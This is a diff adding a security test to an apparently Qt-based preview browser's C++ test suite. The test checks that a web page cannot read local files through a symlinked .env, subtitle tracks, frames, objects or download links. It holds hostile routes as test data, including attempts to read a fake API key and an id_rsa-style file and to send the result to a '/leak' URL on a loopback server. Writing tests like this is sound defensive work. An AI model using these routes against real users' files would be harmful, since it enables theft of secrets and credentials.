@@ -2,6 +2,7 @@
 // it, a web server on loopback that counts connections, each route tried online and offline.
 #include <gtest/gtest.h>
 
+#include <QDir>
 #include <QFile>
 #include <QImage>
 #include <QSignalSpy>
@@ -62,6 +63,15 @@ function script(url, type) {
     s.onload = () => done('loaded'); s.onerror = () => done('refused'); s.src = url;
     document.head.appendChild(s);
   })).then(v => v + ' ' + errors.join());
+}
+function track(url) {
+  return race(new Promise(done => {
+    const v = document.createElement('video'), t = document.createElement('track');
+    t.kind = 'subtitles'; t.default = true; t.src = url;
+    t.onload = () => done(Array.from(t.track.cues || []).map(c => c.text).join());
+    t.onerror = () => done('refused');
+    v.appendChild(t); document.body.appendChild(v);
+  }));
 }
 function sheet(url) {
   return race(new Promise(done => {
@@ -276,6 +286,49 @@ TEST_F(PreviewSecurityTest, ARemotePageCannotReachLocalFiles) {
   EXPECT_FALSE(Attempt("text('" + LocalUrl("secret.txt") + "')").contains(kSecret));
   EXPECT_FALSE(Follow(LocalUrl("secret.txt")));
   EXPECT_FALSE(RunScript(FBrowser, "document.documentElement.innerText").toString().contains(kSecret));
+}
+
+// Hostile references into the user's files: a link named as a script that leads to a .env
+// file, a subtitle track in another folder, a frame and an object showing a text file outside
+// the page's folder, and a download link. Nothing of the files reaches the page's script or the
+// server, online or offline, and the preview stays on the page.
+TEST_F(PreviewSecurityTest, HostileReferencesIntoTheUsersFilesGiveThePageNothing) {
+  QTemporaryDir elsewhere;
+  const QByteArray key = "sk_live_vorn_secret_4711";
+  WriteFileBytes(Local(".env"), key + "\n");
+  ASSERT_TRUE(QFile::link(Local(".env"), Local("env.js")));
+  WriteFileBytes(elsewhere.filePath("notes.vtt"), "WEBVTT\n\n00:00.000 --> 00:09.000\n" + key + "\n");
+  WriteFileBytes(elsewhere.filePath("id_rsa.txt"), key);
+  for (const bool offline : {false, true}) {
+    FBrowser.SetOffline(offline);
+    ShowProbe();
+    const QStringList routes{
+        "script('env.js')",
+        "track('" + LocalUrl("../" + QDir(FFolder.path()).relativeFilePath(elsewhere.filePath("notes.vtt"))) +
+            "')",
+        "track('vornfile:" + elsewhere.filePath("notes.vtt") + "')",
+        "frame('vornfile:" + elsewhere.filePath("id_rsa.txt") + "')",
+        "race(new Promise(done => { const o = document.createElement('object'); o.onload = o.onerror = () => "
+        "done(String(o.contentDocument && o.contentDocument.body.innerText)); o.data = 'vornfile:" +
+            elsewhere.filePath("id_rsa.txt") + "'; document.body.appendChild(o); }))",
+    };
+    for (const QString& route : routes) {
+      const QString outcome =
+          Attempt(route + ".catch(e => 'refused ' + e).then(v => v + ' ' + errors.join())");
+      EXPECT_FALSE(outcome.contains("sk_live")) << route.toStdString() << ": " << outcome.toStdString();
+      Attempt("picture('" + Remote("http", "/leak") +
+              "?' + encodeURIComponent(window.outcome)).catch(() => 0)");
+    }
+    // A link to the text file, a download or not, leads nowhere: the preview stays on the page.
+    for (const char* download : {"true", "false"})
+      RunScript(FBrowser, QString("const d = document.createElement('a'); if (%1) d.download = ''; "
+                                  "d.href = 'secret.txt'; document.body.appendChild(d); d.click();")
+                              .arg(download));
+    QTest::qWait(1000);
+    EXPECT_EQ(FBrowser.title(), "Probe");
+  }
+  for (const QByteArray& request : FServer.Requests())
+    EXPECT_FALSE(request.contains("sk_live")) << request.constData();
 }
 
 }  // namespace
